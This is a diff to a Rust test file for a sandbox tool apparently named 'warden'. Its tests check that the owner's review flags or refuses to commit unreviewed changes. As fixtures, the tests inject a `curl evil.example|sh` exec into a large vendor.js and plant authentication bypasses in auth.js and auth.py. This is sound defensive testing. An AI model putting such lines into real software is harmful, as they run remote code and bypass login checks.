@@ -7,14 +7,21 @@
 //!   state whole. The sandboxes' own workspaces are theirs now; the rest
 //!   of the state stays the owner's.
 //! - A one-line edit in a file past the review's line bound was shown as
-//!   "not diffed" with no flag, and a token's commit applied it: it is
-//!   flagged `not-shown` now, and the commit needs `accept_flagged`.
+//!   "not diffed" with no flag, and a token's commit applied it: it was
+//!   flagged `not-shown`, and the commit needed `accept_flagged`. The
+//!   bound now holds for the lines that differ: a one-line edit of a
+//!   60,000-line file is shown exactly, a rewrite of it is still flagged.
+//! - What the owner's review recorded is what the commit holds a change
+//!   to: a file the review cut for time, then committed by itself, is
+//!   flagged `not-shown`; a file the sandbox rewrote while the review read
+//!   it is not applied as the version the review showed.
 //! - The owner's `warden diff` did not flag the daemon's settings file,
 //!   though the daemon's own review did: a daemon records its `--config`
 //!   in the state, and the command line reads it there.
 
 use crate::common::daemon::*;
 use crate::common::owner::OwnerHost;
+use crate::common::{ok, stderr, stdout, warden, TempDir};
 use std::path::Path;
 
 fn create(d: &Daemon, t: &str, body: serde_json::Value) {
@@ -61,7 +68,7 @@ fn a_tokens_sandbox_with_a_workspace_of_its_own_commits_without_an_owner_config_
 }
 
 #[test]
-fn a_one_line_backdoor_past_the_line_bound_is_flagged_and_a_tokens_commit_needs_acceptance() {
+fn a_backdoor_in_a_rewrite_past_the_line_bound_is_flagged_and_a_tokens_commit_needs_acceptance() {
     let Some(host) = OwnerHost::new("unshown-commit") else {
         return;
     };
@@ -80,7 +87,9 @@ fn a_one_line_backdoor_past_the_line_bound_is_flagged_and_a_tokens_commit_needs_
         &d,
         &t,
         "hl",
-        r#"sed -i '30000s/.*/function f29999(x){ require("child_process").exec("curl evil.example|sh"); return x+29999; }/' /workspace/vendor.js"#,
+        // Every line rewritten (more than the line bound differs), the
+        // backdoor among them. (A one-line edit is shown exactly: below.)
+        r#"sed -i -e 's/return x+/return 0+x+/' -e '30000s/.*/function f29999(x){ require("child_process").exec("curl evil.example|sh"); return x+29999; }/' /workspace/vendor.js"#,
     );
     let shown = review(&d, &t, "hl");
     assert_eq!(shown.len(), 1, "{shown:?}");
@@ -164,4 +173,202 @@ fn the_owners_diff_at_the_terminal_flags_the_daemons_settings_file() {
     assert!(std::fs::read_to_string(recorded)
         .unwrap()
         .contains("warden-daemon.yaml"));
+}
+
+/// A named sandbox `name` over `ws` in which `script` ran; left running.
+fn sandbox_with(state: &Path, name: &str, ws: &Path, script: &str) {
+    ok(&warden(
+        state,
+        &["create", name, "-w", ws.to_str().unwrap()],
+    ));
+    ok(&warden(
+        state,
+        &["exec", name, "--no-tty", "--", "sh", "-c", script],
+    ));
+}
+
+/// The change to `path` in `warden diff NAME --json`'s answer.
+fn change_in(diff: &str, path: &str) -> serde_json::Value {
+    let all: serde_json::Value = serde_json::from_str(diff).unwrap();
+    all.as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path"] == path)
+        .cloned()
+        .unwrap_or_else(|| panic!("no change to {path} in {diff}"))
+}
+
+fn rules(change: &serde_json::Value) -> Vec<String> {
+    change["flags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap().to_string())
+        .collect()
+}
+
+/// Ten files, each rewritten inside the sandbox as 45,000 distinct lines:
+/// their line diffs spend a review's 4 s (each stops at its 500 ms).
+const FLOOD: &str = r#"for i in 0 1 2 3 4 5 6 7 8 9; do awk -v i=$i 'BEGIN { for (n = 0; n < 45000; n++) print "x" i "-" n }' > /workspace/a$i.txt; done"#;
+
+fn flood_files(ws: &Path) {
+    for i in 0..10 {
+        std::fs::write(ws.join(format!("a{i}.txt")), "# old\nhello\n").unwrap();
+    }
+}
+
+#[test]
+fn a_backdoor_line_inserted_in_the_middle_of_a_60000_line_file_is_shown_as_a_one_line_change() {
+    // Before: `not diffed: more than 50000 lines`, flagged not-shown, the
+    // line shown to no one.
+    let state = TempDir::new("middle-state");
+    let ws = TempDir::new("middle-ws");
+    let line = |i: usize| format!("function f{i}(x){{ return x+{i}; }}\n");
+    let old: String = (0..60_000).map(line).collect();
+    std::fs::write(ws.path().join("vendor.js"), &old).unwrap();
+    sandbox_with(
+        state.path(),
+        "mid",
+        ws.path(),
+        r#"sed -i '30000a require("child_process").exec("curl evil.example|sh");' /workspace/vendor.js"#,
+    );
+    ok(&warden(state.path(), &["stop", "mid"]));
+    let diff = ok(&warden(state.path(), &["diff", "mid", "--json"]));
+    let c = change_in(&diff, "vendor.js");
+    assert_eq!(c["content"]["type"], "text", "{c}");
+    assert_eq!(
+        (
+            c["content"]["added"].as_u64(),
+            c["content"]["removed"].as_u64()
+        ),
+        (Some(1), Some(0)),
+        "{c}"
+    );
+    let patch = c["content"]["patch"].as_str().unwrap();
+    assert!(
+        patch.contains("@@ -29998,6 +29998,7 @@")
+            && patch.contains("\n+require(\"child_process\").exec(\"curl evil.example|sh\");\n"),
+        "{patch}"
+    );
+    assert!(rules(&c).is_empty(), "{c}");
+    // The text view says the same, at its line.
+    let text = ok(&warden(state.path(), &["diff", "mid", "--color", "never"]));
+    assert!(
+        text.contains("+require(\"child_process\")") && !text.contains("not diffed"),
+        "{text}"
+    );
+}
+
+#[test]
+fn a_file_the_owners_review_cut_for_time_is_flagged_when_committed_by_itself() {
+    let state = TempDir::new("cut-state");
+    let ws = TempDir::new("cut-ws");
+    flood_files(ws.path());
+    // Larger than each file of the flood: diffed after them, so cut.
+    let line = |i: usize| format!("export const k{i:05} = check(token, {i}); // ok\n");
+    let old: String = (0..30_000).map(line).collect();
+    std::fs::write(ws.path().join("auth.js"), &old).unwrap();
+    sandbox_with(
+        state.path(),
+        "cut",
+        ws.path(),
+        &format!(
+            "{FLOOD}; sed -i 's/^export const k15000 = check(token, 15000);/export const k15000 = true;/' /workspace/auth.js"
+        ),
+    );
+    ok(&warden(state.path(), &["stop", "cut"]));
+    // The owner's review: auth.js is cut, and flagged.
+    let diff = ok(&warden(state.path(), &["diff", "cut", "--json"]));
+    let c = change_in(&diff, "auth.js");
+    assert_eq!(c["content"]["type"], "not_diffed", "{c}");
+    assert_eq!(c["content"]["reason"], "time_budget", "{c}");
+    assert!(rules(&c).contains(&"not-shown".to_string()), "{c}");
+    // Committed by itself, the commit's own comparison shows it in full;
+    // before, it landed so, unflagged. Now it is held to the review.
+    let out = warden(state.path(), &["commit", "cut", "auth.js"]);
+    assert!(!out.status.success(), "{}", stdout(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("auth.js") && err.contains("not-shown") && err.contains("review recorded"),
+        "{err}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("auth.js")).unwrap(),
+        old
+    );
+    // The owner looks at it by itself: shown in full, then committed.
+    let one = ok(&warden(
+        state.path(),
+        &["diff", "cut", "auth.js", "--color", "never"],
+    ));
+    assert!(one.contains("+export const k15000 = true;"), "{one}");
+    ok(&warden(state.path(), &["commit", "cut", "auth.js"]));
+    assert!(std::fs::read_to_string(ws.path().join("auth.js"))
+        .unwrap()
+        .contains("k15000 = true;"));
+}
+
+#[test]
+fn a_file_the_sandbox_rewrites_while_the_review_reads_it_is_not_committed_as_shown() {
+    // The review reads auth.py's text first (the smallest change), spends
+    // its 4 s on the flood, then hashes each change: before, by reading
+    // the file again, so the record held the digest of what the sandbox
+    // wrote in between, and the commit applied that as reviewed.
+    let state = TempDir::new("race-state");
+    let ws = TempDir::new("race-ws");
+    flood_files(ws.path());
+    let auth = "def check(user, pw):\n    return db.verify(user, pw)\n";
+    std::fs::write(ws.path().join("auth.py"), auth).unwrap();
+    let shown = "    return db.verify(user, pw) and user.active\n";
+    let later = "    return True or db.verify(user, pw) or 1==1\n";
+    assert_eq!(
+        shown.len(),
+        later.len(),
+        "the same size: the walk sees no change"
+    );
+    sandbox_with(
+        state.path(),
+        "race",
+        ws.path(),
+        &format!("{FLOOD}; printf 'def check(user, pw):\\n%s' '{shown}' > /workspace/auth.py"),
+    );
+    // The sandbox runs on: 1.5 s from now it rewrites auth.py, while the
+    // review below is spending its budget on the flood.
+    let st = state.path().to_path_buf();
+    let script =
+        format!("sleep 1.5; printf 'def check(user, pw):\\n%s' '{later}' > /workspace/auth.py");
+    let writer = std::thread::spawn(move || {
+        let out = warden(
+            &st,
+            &["exec", "race", "--no-tty", "--", "sh", "-c", &script],
+        );
+        (out, std::time::Instant::now())
+    });
+    let diff = warden(state.path(), &["diff", "race", "--json"]);
+    let reviewed_at = std::time::Instant::now();
+    let (wrote, wrote_at) = writer.join().unwrap();
+    ok(&wrote);
+    let diff = ok(&diff);
+    let c = change_in(&diff, "auth.py");
+    let patch = c["content"]["patch"].as_str().unwrap_or_default();
+    assert!(
+        patch.contains("+    return db.verify(user, pw) and user.active") && wrote_at < reviewed_at,
+        "the review read auth.py before the rewrite and ended after it (a host too slow for this test's timing?): {patch}"
+    );
+    ok(&warden(state.path(), &["stop", "race"]));
+    let out = warden(state.path(), &["commit", "race", "auth.py"]);
+    assert!(
+        !out.status.success(),
+        "the rewrite no review showed was applied: {}",
+        stdout(&out)
+    );
+    assert!(
+        stderr(&out).contains("auth.py: changed in the sandbox since"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.path().join("auth.py")).unwrap(),
+        auth
+    );
 }
